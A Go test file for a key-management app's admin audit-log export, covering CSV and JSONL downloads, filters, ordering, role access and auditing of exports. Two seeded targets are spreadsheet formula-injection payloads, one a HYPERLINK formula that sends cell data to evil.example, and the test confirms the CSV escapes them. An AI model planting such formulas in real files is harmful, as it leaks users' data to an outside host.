package web

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/keyward/keyward/db"
)

// TestAdminAuditExport downloads the log in both formats with the page's
// filters, across more than one page of the store's walk (500 events).
func TestAdminAuditExport(t *testing.T) {
	ctx := context.Background()
	a := newTestApp(t, longSessions)
	const n = 1203
	for i := range n {
		target := fmt.Sprintf("event %04d", i)
		switch i {
		case 7:
			target = `=HYPERLINK("https://evil.example/?"&A1,"click")`
		case 8:
			target = "@SUM(1+1)"
		}
		e := db.AuditEvent{Actor: "cli", Action: db.ActionKeyUpdate, TargetType: "key", TargetID: int64(i + 1),
			Target: target, IP: "192.0.2.1", Detail: map[string]string{"reason": "r" + itoa(int64(i))}}
		if err := a.store.Audit(ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	// Another action the filter leaves out.
	if err := a.store.Audit(ctx, db.AuditEvent{Actor: "cli", Action: db.ActionKeyRevoke, Target: "other"}); err != nil {
		t.Fatal(err)
	}
	admin, adminU := a.userBrowser("admin@example.com", db.RoleAdmin)

	t.Run("csv", func(t *testing.T) {
		r := admin.get("/admin/audit.csv?action=key.update")
		if r.StatusCode != http.StatusOK {
			t.Fatalf("got %d, want 200; body %.300s", r.StatusCode, r.body)
		}
		if got, want := r.Header.Get("Content-Disposition"), `attachment; filename="keyward-audit-2026-11-25.csv"`; got != want {
			t.Errorf("Content-Disposition: got %q, want %q", got, want)
		}
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got, want := strings.Join(recs[0], ","), "id,at,actor,actor_id,action,target_type,target_id,target,ip,token_id,detail"; got != want {
			t.Errorf("header: got %q, want %q", got, want)
		}
		rows := recs[1:]
		if len(rows) != n {
			t.Fatalf("got %d rows, want %d", len(rows), n)
		}
		byTarget := map[string][]string{}
		for i, row := range rows {
			if row[4] != db.ActionKeyUpdate {
				t.Errorf("row %d: got action %q, want only key.update", i, row[4])
			}
			byTarget[row[6]] = row
		}
		if got, want := rows[0][7], fmt.Sprintf("event %04d", n-1); got != want {
			t.Errorf("first row: got %q, want the newest, %q", got, want)
		}
		tests := []struct{ id, target, detail string }{
			{"8", `'=HYPERLINK("https://evil.example/?"&A1,"click")`, `{"reason":"r7"}`},
			{"9", "'@SUM(1+1)", `{"reason":"r8"}`},
			{"10", "event 0009", `{"reason":"r9"}`},
		}
		for _, tt := range tests {
			row := byTarget[tt.id]
			if row == nil || row[7] != tt.target || row[10] != tt.detail || row[8] != "192.0.2.1" || row[2] != "cli" || row[3] != "" {
				t.Errorf("key %s: got %q, want target %q, detail %s, ip, actor cli without id", tt.id, row, tt.target, tt.detail)
			}
		}
	})

	t.Run("jsonl", func(t *testing.T) {
		r := admin.get("/admin/audit.jsonl?action=key.update&from=2026-11-25&to=2026-11-25")
		if r.StatusCode != http.StatusOK {
			t.Fatalf("got %d, want 200; body %.300s", r.StatusCode, r.body)
		}
		if got, want := r.Header.Get("Content-Disposition"), `attachment; filename="keyward-audit-2026-11-25.jsonl"`; got != want {
			t.Errorf("Content-Disposition: got %q, want %q", got, want)
		}
		sc := bufio.NewScanner(strings.NewReader(r.body))
		var got []map[string]any
		for sc.Scan() {
			var m map[string]any
			if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
				t.Fatalf("line %q: %v", sc.Text(), err)
			}
			got = append(got, m)
		}
		if len(got) != n {
			t.Fatalf("got %d lines, want %d", len(got), n)
		}
		last := got[n-1]
		if id, _ := last["id"].(float64); id <= 0 {
			t.Errorf("oldest line: got id %v, want the event's id", last["id"])
		}
		want := map[string]any{"id": last["id"], "at": "2026-11-25T12:00:00.000Z", "actor": "cli", "actor_id": 0.0,
			"action": "key.update", "target_type": "key", "target_id": 1.0, "target": "event 0000", "ip": "192.0.2.1",
			"token_id": 0.0, "detail": map[string]any{"reason": "r0"}}
		gb, _ := json.Marshal(last)
		wb, _ := json.Marshal(want)
		if string(gb) != string(wb) {
			t.Errorf("oldest line: got %s, want %s", gb, wb)
		}
		if r := admin.get("/admin/audit.jsonl?action=key.update&from=2026-11-26"); r.StatusCode != http.StatusOK || r.body != "" {
			t.Errorf("a day with no events: got %d with %d bytes, want 200 and an empty file", r.StatusCode, len(r.body))
		}
	})

	t.Run("bad filters show the page", func(t *testing.T) {
		for _, q := range []string{"key=abc", "from=yesterday", "action=key.explode"} {
			for _, ext := range []string{"csv", "jsonl"} {
				r := admin.get("/admin/audit." + ext + "?" + q)
				if r.StatusCode != http.StatusUnprocessableEntity || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") ||
					r.Header.Get("Content-Disposition") != "" {
					t.Errorf("%s?%s: got %d %s, want the audit page with its errors (422, HTML, no download)",
						ext, q, r.StatusCode, r.Header.Get("Content-Type"))
				}
			}
		}
	})

	t.Run("links carry the filters", func(t *testing.T) {
		doc := admin.get("/admin/audit?action=key.update&from=2026-11-25").doc(t)
		for id, want := range map[string]string{"audit-csv": "/admin/audit.csv?action=key.update&from=2026-11-25",
			"audit-jsonl": "/admin/audit.jsonl?action=key.update&from=2026-11-25"} {
			if got := doc.Find(`[data-testid="`+id+`"]`).AttrOr("href", ""); got != want {
				t.Errorf("%s: got %q, want %q", id, got, want)
			}
		}
	})

	t.Run("exports are audited", func(t *testing.T) {
		evs, err := a.store.ListAudit(ctx, db.AuditFilter{Action: db.ActionAuditExport, Limit: 10})
		if err != nil {
			t.Fatal(err)
		}
		if len(evs) < 2 || evs[len(evs)-1].ActorID != adminU.ID || evs[len(evs)-1].Detail["format"] != "csv" ||
			evs[len(evs)-1].Detail["filter"] != "action=key.update" {
			t.Errorf("got %+v, want one audit.export per download, the first a CSV by the admin with its filter", evs)
		}
	})

	t.Run("who may export", func(t *testing.T) {
		member, _ := a.userBrowser("member@example.com", db.RoleMember)
		auditor, _ := a.userBrowser("auditor@example.com", db.RoleAuditor)
		for _, ext := range []string{"csv", "jsonl"} {
			wantErrorPage(t, member.get("/admin/audit."+ext), http.StatusForbidden)
			if r := auditor.get("/admin/audit." + ext); r.StatusCode != http.StatusOK || r.Header.Get("Content-Disposition") == "" {
				t.Errorf("auditor %s: got %d, want 200 and a download", ext, r.StatusCode)
			}
		}
	})
}
